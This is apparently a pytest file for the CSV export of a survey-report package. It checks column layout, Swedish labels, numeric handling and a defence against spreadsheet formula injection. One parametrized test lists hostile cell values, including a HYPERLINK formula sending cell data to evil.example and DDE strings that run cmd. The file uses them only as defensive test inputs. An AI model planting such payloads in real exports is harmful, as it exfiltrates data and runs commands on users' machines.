"""The csv format: machine-readable rows, safe against formula injection."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from skl_socialmedia import embedded_figures, report_from_published
from skl_socialmedia.formats.csv_format import COLUMNS, CsvFormat, neutralise
from skl_socialmedia.report.from_survey import report_from_survey
from skl_socialmedia.report.model import Change, Estimate, Report, ReportRow, Status
from skl_socialmedia.sources import load_survey

ROOT = Path(__file__).resolve().parents[2]


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_embedded_report() -> None:
    text = CsvFormat().render(report_from_published(embedded_figures()))
    assert text.startswith(",".join(COLUMNS) + "\r\n")
    records = read(text)
    assert len(records) == 4
    first = records[0]
    assert first["group"] == "municipality"
    assert first["group_label"] == "municipalities"
    assert first["item"] == "uses"
    assert first["item_label"] == "use social media"
    assert (first["before_wave"], first["before_value"]) == ("2010", "0.61")
    assert (first["after_wave"], first["after_value"]) == ("2012", "0.76")
    assert first["before_low"] == first["before_high"] == ""
    assert first["before_status"] == "published"
    assert first["change_value"] == "0.15"
    assert first["change_status"] == "computed"
    assert first["change_significant"] == ""
    assert first["before_low_base"] == "false"


def test_swedish_translates_labels_only() -> None:
    report = report_from_published(embedded_figures())
    english = read(CsvFormat().render(report, lang="en"))
    swedish = read(CsvFormat().render(report, lang="sv"))
    assert list(swedish[0]) == list(english[0])
    assert swedish[0]["group_label"] == "kommuner"
    assert swedish[0]["item_label"] == "använder sociala medier"
    labels = {"group_label", "item_label", "among_label"}
    labels |= {c for c in COLUMNS if c.endswith("note")}
    for en, sv in zip(english, swedish, strict=True):
        assert {k: v for k, v in en.items() if k not in labels} == {
            k: v for k, v in sv.items() if k not in labels
        }
    # Machine-readable in both languages: '.' decimals, ',' delimiter.
    assert swedish[2]["before_value"] == "0.611290322581"


def test_microdata_report_keeps_negative_numbers_numeric() -> None:
    report = report_from_survey(load_survey(ROOT / "examples/data/synthetic_panel.csv"))
    records = read(CsvFormat().render(report))
    assert len(records) == len(report.rows)
    negative = [r for r in records if r["change_low"].startswith("-")]
    assert negative, "the synthetic panel has changes whose interval crosses zero"
    for record in negative:
        assert float(record["change_low"]) < 0
    first = records[0]
    assert float(first["before_low"]) < float(first["before_value"])
    assert first["change_paired"] in ("true", "false")
    assert first["change_method"] == "newcombe"
    assert float(first["before_total"]) > 0


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_injection_in_an_organisation_name_is_neutralised(
    hostile: str,
) -> None:
    row = ReportRow(
        group=hostile,
        item=hostile,
        estimates=[
            Estimate(wave="2010", value=0.5, status=Status.ESTIMATED, note=hostile),
            Estimate(wave="2012", value=0.45, status=Status.ESTIMATED),
        ],
        changes=[
            Change(
                value=-0.05, low=-0.1, high=0.0, method=hostile, status=Status.ESTIMATED
            )
        ],
        note=hostile,
    )
    report = Report(
        title=hostile, source=hostile, before_wave="2010", after_wave="2012", rows=[row]
    )
    (record,) = read(CsvFormat().render(report))
    for column in ("group", "group_label", "item", "item_label", "before_note"):
        assert record[column] == "'" + hostile, column
    assert record["change_method"] == "'" + hostile
    assert record["note"] == "'" + hostile
    # Numbers stay numbers, even negative ones.
    assert record["change_value"] == "-0.05"
    assert record["change_low"] == "-0.1"


def test_nul_becomes_the_replacement_character() -> None:
    assert neutralise("a\0b") == "a\ufffdb"


def test_neutralise_is_reversible() -> None:
    for text in ["=1", "'=1", "'quoted", "plain", "", "-", "Åre"]:
        neutral = neutralise(text)
        assert not neutral.startswith(("=", "+", "-", "@", "\t", "\r"))
        original = neutral[1:] if neutral.startswith("'") else neutral
        assert original == text
